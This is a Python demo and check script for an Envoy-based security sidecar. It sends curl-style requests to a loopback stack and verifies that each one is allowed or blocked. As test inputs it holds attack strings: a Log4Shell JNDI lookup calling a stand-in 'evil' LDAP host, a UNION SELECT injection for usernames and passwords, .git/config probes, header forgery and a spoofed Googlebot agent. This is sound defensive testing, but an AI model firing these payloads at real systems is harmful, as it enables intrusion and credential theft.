"""``extproc demo``: a real Envoy, the sidecar and an echo upstream on loopback.

Prints curl lines for an allowed request, denied ones and an observe-mode route; with
``--check`` it sends them itself and verifies the outcome (used by the tests).
"""
from __future__ import annotations

import http.client
import json
import shlex
import signal
import threading
from dataclasses import dataclass, field
from pathlib import Path

from extproc.local.stack import DEMO_POLICY, Stack


@dataclass(frozen=True)
class DemoRequest:
    title: str
    method: str
    path: str
    expect_status: int
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""

    def curl(self, base_url: str) -> str:
        parts = ["curl", "-s", "-i"]
        if self.method != ("POST" if self.body else "GET"):
            parts += ["-X", self.method]
        for name, value in self.headers.items():
            parts += ["-H", f"{name}: {value}"]
        if self.body:
            parts += ["--data-raw", self.body]
        parts.append(base_url + self.path)
        return " ".join(shlex.quote(p) for p in parts)


REQUESTS = (
    DemoRequest(
        "Allowed: the upstream echoes the headers it received. The forged x-extproc-tags is gone; "
        "the sidecar's own tag (automation, from the curl user-agent) is there, and so are the bot "
        "layer's x-bot-class: automation and x-bot-score.",
        "GET", "/hello?name=world", 200, {"user-agent": "curl/8.5.0", "x-extproc-tags": "trusted-admin"},
    ),
    DemoRequest("Denied on the path: a probe for VCS metadata (403 with a request id, nothing more).",
                "GET", "/.git/config", 403),
    DemoRequest("The same probe on the API route: a route's own rules are added to the default ones, not "
                "put in their place (`extproc check-config` lists the rules of each route).",
                "GET", "/api/.git/config", 403),
    DemoRequest(
        "Denied after body inspection: a Log4Shell lookup inside a JSON field.",
        "POST", "/api/orders", 403, {"content-type": "application/json"}, '{"note": "${jndi:ldap://evil/a}"}',
    ),
    DemoRequest("Denied by a route-specific rule: TRACE on the API route (405).", "TRACE", "/api/orders", 405),
    DemoRequest(
        "Denied by the ML attack score: a SQL injection no rule names (the upstream gets x-waf-* scores "
        "on allowed requests; the client never sees them).",
        "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 403,
    ),
    DemoRequest("Denied by access protection: an internal app without credentials (401).",
                "GET", "/internal/report", 401),
    DemoRequest(
        "Allowed by access policy: the same app with its service token; the upstream gets the identity.",
        "GET", "/internal/report", 200,
        {"x-access-client-id": "demo-client.access", "x-access-client-secret": "demo-secret-change-me-before-real-use"},
    ),
    DemoRequest(
        "Denied by bot management: a Googlebot user-agent from an address outside Google's published ranges.",
        "GET", "/", 403, {"user-agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    ),
    DemoRequest("Observe mode on /legacy/: the same probe is logged as a would-be deny, not blocked.",
                "GET", "/legacy/.git/config", 200),
    DemoRequest(
        "Refused by Envoy (400): a header name with '_', which an app that folds '_' into '-' would read "
        "as the identity header the sidecar sets.",
        "GET", "/hello", 400, {"x_extproc_user_email": "admin@corp.example"},
    ),
)


def run(port: int = 0, config: str | None = None, check: bool = False) -> int:
    policy = Path(config) if config else DEMO_POLICY
    with Stack(policy, listen_port=port) as stack:
        _print_banner(stack)
        if check:
            return _check(stack)
        _wait_for_interrupt()
        print("\nstopping Envoy, sidecar and upstream ...")
    return 0


def _print_banner(stack: Stack) -> None:
    envoy, sidecar, upstream = stack.envoy, stack.sidecar, stack.upstream
    if envoy is None or sidecar is None or upstream is None:
        raise RuntimeError("the demo stack is not running")
    print(f"Envoy     {stack.url}  (admin http://127.0.0.1:{envoy.admin_port})")
    print(f"          {stack.https_url}  (self-signed: curl --cacert {envoy.cert_path}; "
          "the upstream sees x-ja3/x-ja4)")
    print(f"sidecar   {sidecar.address}  policy {stack.policy}")
    print(f"upstream  http://127.0.0.1:{upstream.port}  (echoes what it receives)")
    print(f"logs      {stack.workdir}  (removed on exit)\n")
    for request in REQUESTS:
        print(f"# {request.title}")
        print(request.curl(stack.url) + "\n")


def _check(stack: Stack) -> int:
    failures = 0
    for request in REQUESTS:
        status, body = _send(stack.listen_port, request)
        ok = status == request.expect_status
        failures += not ok
        print(f"{'ok  ' if ok else 'FAIL'} {status} {request.method} {request.path}  (expected {request.expect_status})")
        if request.expect_status == 200 and ok:
            seen = {name: value for name, value in json.loads(body)["headers"]
                    if name.startswith(("x-extproc-", "x-waf-attack", "x-bot-")) and name != "x-extproc-assertion"}
            print(f"     upstream saw: {seen}")
    return 1 if failures else 0


def _send(port: int, request: DemoRequest) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request(request.method, request.path, body=request.body.encode() or None, headers=request.headers)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def _wait_for_interrupt() -> None:
    print("Ctrl-C stops everything.")
    stopped = threading.Event()
    for signum in (signal.SIGINT, signal.SIGTERM):
        signal.signal(signum, lambda *_: stopped.set())
    stopped.wait()
